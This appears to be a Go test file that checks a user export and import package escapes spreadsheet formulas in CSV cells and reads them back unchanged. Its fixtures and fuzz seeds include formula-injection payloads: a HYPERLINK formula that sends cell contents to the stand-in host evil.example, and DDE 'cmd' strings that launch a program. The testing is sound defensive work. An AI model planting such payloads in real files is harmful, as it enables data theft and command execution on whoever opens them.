package transfer_test

import (
	"bytes"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/ctitui/ctitui/internal/transfer"
	"github.com/ctitui/ctitui/internal/user"
)

// The rule as the package comment states it, written independently of the
// code under test.
var (
	escapedByRule   = regexp.MustCompile(`^'*[=+\-@\t\r\n\x00]`)
	unescapedByRule = regexp.MustCompile(`^'+[=+\-@\t\r\n\x00]`)
)

func TestEscapeFormula(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"alice@example.org", "alice@example.org"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-bob@example.org", "'-bob@example.org"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\x00", "'\x00"},
		{"'=1", "''=1"},
		{"'''-x", "''''-x"},
		{"'", "'"},
		{"''", "''"},
		{"'a", "'a"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{"\n=1", "'\n=1"},
		{"＝1", "＝1"},
	}
	for _, tt := range tests {
		got := transfer.EscapeFormula(tt.in)
		if got != tt.want {
			t.Errorf("EscapeFormula(%q) = %q; want %q", tt.in, got, tt.want)
		}
		if back := transfer.UnescapeFormula(got); back != tt.in {
			t.Errorf("UnescapeFormula(EscapeFormula(%q)) = %q; want %q", tt.in, back, tt.in)
		}
		if need := transfer.NeedsFormulaEscape(tt.in); need != (got != tt.in) {
			t.Errorf("NeedsFormulaEscape(%q) = %v; want %v", tt.in, need, got != tt.in)
		}
	}
}

func TestUnescapeFormula(t *testing.T) {
	tests := []struct{ in, want string }{
		{"'=1", "=1"},
		{"''=1", "'=1"},
		{"'-bob@example.org", "-bob@example.org"},
		{"-bob@example.org", "-bob@example.org"}, // written by hand: taken as it is
		{"'plain", "'plain"},
		{"'", "'"},
		{"''", "''"},
		{"", ""},
		{"=1", "=1"},
	}
	for _, tt := range tests {
		if got := transfer.UnescapeFormula(tt.in); got != tt.want {
			t.Errorf("UnescapeFormula(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

// checkFormulaRule holds EscapeFormula and UnescapeFormula to the rule and
// to being inverse: escape then unescape is the identity on every string,
// unescape leaves a string the rule does not name alone, and what escape
// writes never starts a formula.
func checkFormulaRule(t *testing.T, s string) {
	t.Helper()
	esc := transfer.EscapeFormula(s)
	if escapedByRule.MatchString(s) {
		if want := "'" + s; esc != want {
			t.Errorf("EscapeFormula(%q) = %q; want %q", s, esc, want)
		}
	} else if esc != s {
		t.Errorf("EscapeFormula(%q) = %q; want it unchanged", s, esc)
	}
	if back := transfer.UnescapeFormula(esc); back != s {
		t.Errorf("UnescapeFormula(EscapeFormula(%q)) = %q; want the input", s, back)
	}
	if !unescapedByRule.MatchString(s) {
		if got := transfer.UnescapeFormula(s); got != s {
			t.Errorf("UnescapeFormula(%q) = %q; want a plain value unchanged", s, got)
		}
	} else if got := transfer.UnescapeFormula(s); got != s[1:] {
		t.Errorf("UnescapeFormula(%q) = %q; want %q", s, got, s[1:])
	}
	if esc != "" && strings.ContainsRune("=+-@\t\r\n\x00", rune(esc[0])) {
		t.Errorf("EscapeFormula(%q) = %q starts a formula", s, esc)
	}
	if transfer.NeedsFormulaEscape(s) != (esc != s) {
		t.Errorf("NeedsFormulaEscape(%q) = %v; EscapeFormula gave %q", s, transfer.NeedsFormulaEscape(s), esc)
	}
}

// formulaUsers hold text that a spreadsheet would run as a formula, in
// every field an export writes, and text that only looks escaped.
func formulaUsers() []user.User {
	at := time.Date(2026, 1, 2, 3, 4, 5, 678_000_000, time.UTC)
	var users []user.User
	for i, s := range []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\t=1+1", "\r=1+1", "\x00=1", "'=1+1", "''-x", "'plain", "''", "'", "a=b", "-bob@example.org", "=", "",
	} {
		users = append(users, user.User{ID: s, Email: s, Roles: []user.Role{user.Role(s)}, PasswordHash: s,
			CreatedAt: at.Add(time.Duration(i) * time.Second), UpdatedAt: at, DisabledAt: at})
	}
	return users
}

// startsFormula reports whether a spreadsheet would read cell as a formula.
func startsFormula(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r\x00", rune(cell[0]))
}

// A CSV export holds no cell that a spreadsheet runs, and reads back as
// exactly what was written: import undoes the escape.
func TestWriterCSVNeutralisesFormulas(t *testing.T) {
	users := formulaUsers()
	for _, hashes := range []bool{false, true} {
		var buf bytes.Buffer
		w, err := transfer.NewWriter(&buf, transfer.CSV, hashes)
		if err != nil {
			t.Fatal(err)
		}
		for _, u := range users {
			if err := w.Write(u); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		cells := csvCells(t, buf.String())
		for _, row := range cells {
			for _, c := range row {
				if startsFormula(c) {
					t.Errorf("hashes=%v: CSV cell %q would run as a formula", hashes, c)
				}
			}
		}
		got, err := readAll(buf.String(), transfer.CSV)
		if err != nil || len(got) != len(users) {
			t.Fatalf("hashes=%v: Read of the export = %d records, %v; want %d", hashes, len(got), err, len(users))
		}
		for i, u := range users {
			g := got[i]
			if g.ID != strings.TrimSpace(u.ID) || g.Email != u.Email {
				t.Errorf("hashes=%v: id, email read back as %q, %q; want %q, %q", hashes, g.ID, g.Email, u.ID, u.Email)
			}
			if hashes && g.Hash != strings.TrimSpace(u.PasswordHash) {
				t.Errorf("hashes=%v: hash read back as %q; want %q", hashes, g.Hash, u.PasswordHash)
			}
		}
	}
}

// csvCells splits CSV text into rows of cells without undoing anything, as
// a spreadsheet would see them.
func csvCells(t *testing.T, text string) [][]string {
	t.Helper()
	var rows [][]string
	var row []string
	var cell strings.Builder
	quoted, inQuotes := false, false
	for i := 0; i < len(text); i++ {
		c := text[i]
		switch {
		case inQuotes && c == '"' && i+1 < len(text) && text[i+1] == '"':
			cell.WriteByte('"')
			i++
		case inQuotes && c == '"':
			inQuotes = false
		case inQuotes:
			cell.WriteByte(c)
		case c == '"' && cell.Len() == 0 && !quoted:
			inQuotes, quoted = true, true
		case c == ',':
			row = append(row, cell.String())
			cell.Reset()
			quoted = false
		case c == '\n':
			rows = append(rows, append(row, cell.String()))
			row = nil
			cell.Reset()
			quoted = false
		default:
			cell.WriteByte(c)
		}
	}
	return rows
}

// Cells that a spreadsheet user escaped by hand, or that an export
// escaped, lose exactly one leading quote; nothing else changes.
func TestReadCSVUndoesFormulaEscape(t *testing.T) {
	in := "id,email,password\n" +
		"'-5,'-bob@x.org,'=pass word\n" +
		"u1,'+alice@x.org,''=two quotes\n" +
		"u2,'plain@x.org,'not escaped\n" +
		"u3,-carol@x.org,-raw\n" +
		"u4,\"'\t@x.org\",\"'\r=1\"\n"
	checkRecords(t, "formula escapes", in, transfer.CSV, []rec{
		{Line: 2, ID: "-5", Email: "-bob@x.org", Password: "=pass word"},
		{Line: 3, ID: "u1", Email: "+alice@x.org", Password: "'=two quotes"},
		{Line: 4, ID: "u2", Email: "'plain@x.org", Password: "'not escaped"},
		{Line: 5, ID: "u3", Email: "-carol@x.org", Password: "-raw"},
		{Line: 6, ID: "u4", Email: "\t@x.org", Password: "\r=1"},
	})
}

func FuzzFormulaEscape(f *testing.F) {
	for _, s := range []string{"", "=", "'", "''=", "'a", "-x@y.z", "'\t", "\r\n", "a", "'''@", "\x00"} {
		f.Add(s)
	}
	f.Fuzz(checkFormulaRule)
}

// FuzzWriterRoundTrip writes a user with any text in its fields, in both
// formats, and reads it back: what was written is what is read, and no CSV
// cell starts a formula.
func FuzzWriterRoundTrip(f *testing.F) {
	for _, s := range []string{"=cmd|' /C calc'!A0", "'-x", "a,b\"c\nd", "\ufeffbom", "\xff", "", " spaced ", "'\r\n=", "a\r\nb\rc"} {
		f.Add(s, s, s)
	}
	f.Fuzz(func(t *testing.T, id, email, hash string) {
		u := user.User{ID: id, Email: email, PasswordHash: hash, Roles: []user.Role{user.RoleViewer},
			CreatedAt: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), UpdatedAt: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)}
		for _, format := range []transfer.Format{transfer.CSV, transfer.JSONL} {
			var buf bytes.Buffer
			w, err := transfer.NewWriter(&buf, format, true)
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Write(u); err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			if format == transfer.CSV {
				for _, row := range csvCells(t, buf.String()) {
					for _, c := range row {
						if startsFormula(c) {
							t.Errorf("CSV cell %q starts a formula", c)
						}
					}
				}
			}
			var got []user.ImportRecord
			err = transfer.Read(&buf, format, func(r user.ImportRecord) error {
				got = append(got, r)
				return nil
			})
			if err != nil {
				t.Fatalf("%s: Read of what Writer wrote: %v", format, err)
			}
			// Read trims id and hash, and JSON carries only valid UTF-8
			// (encoding/json writes U+FFFD for the rest); blank lines and
			// a blank CSV email make no record.
			// encoding/csv reads CR LF inside a quoted field as LF.
			wantEmail := email
			if format == transfer.CSV {
				wantEmail = strings.ReplaceAll(email, "\r\n", "\n")
			}
			if format == transfer.JSONL {
				wantEmail = strings.Map(func(r rune) rune { return r }, email) // U+FFFD for each bad byte
			}
			if len(got) != 1 {
				if format == transfer.CSV && len(got) == 0 {
					continue // every cell blank: a blank line
				}
				t.Fatalf("%s: read %d records; want 1", format, len(got))
			}
			r := got[0]
			if r.Err != nil {
				t.Fatalf("%s: read back with error %v", format, r.Err)
			}
			if r.Email != wantEmail {
				t.Errorf("%s: email read back as %q; want %q", format, r.Email, wantEmail)
			}
			if format == transfer.CSV {
				crlf := func(s string) string { return strings.TrimSpace(strings.ReplaceAll(s, "\r\n", "\n")) }
				if r.ID != crlf(id) || r.HashedPassword != crlf(hash) {
					t.Errorf("%s: id, hash read back as %q, %q; want %q, %q", format, r.ID, r.HashedPassword, id, hash)
				}
			}
		}
	})
}
